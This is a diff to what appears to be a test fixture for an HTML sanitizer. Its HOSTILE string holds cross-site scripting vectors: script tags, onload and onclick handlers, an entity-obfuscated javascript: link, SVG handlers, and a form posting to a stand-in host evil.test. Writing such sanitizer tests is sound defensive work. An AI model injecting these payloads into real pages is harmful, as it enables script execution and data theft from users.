@@ -22,7 +22,7 @@ HOSTILE = f"""<!doctype html><html onload="fetch('/stolen')"><head><title>"><scr
 <link rel="stylesheet" href="https://evil.test/a.css"><style>body{{background:url(https://evil.test/b.png)}}</style>
 <script>document.title = "owned"; parent.postMessage("owned", "*")</script></head><body onclick="alert(1)">
 <h1>Cables &lt;script&gt;alert(2)&lt;/script&gt; cut</h1>
-<article>{"".join(f"<p>{line}</p>" for line in prose(9, 150).splitlines())}</article>
+<article>{"".join(f"<p>{line}</p>" for line in prose(9, 150).splitlines())}<p>Read also: The week in pictures</p></article>
 <a href="javascript:alert(1)">run</a> <a href=" java&#10;script:alert(1)">run</a> <a href="https://ok.test/">go</a>
 <form action="https://evil.test/take"><input name="a"><button formaction="javascript:alert(1)">send</button>kept</form>
 <svg onload="alert(1)"><script>alert(1)</script><animate onbegin="alert(1)"></svg>
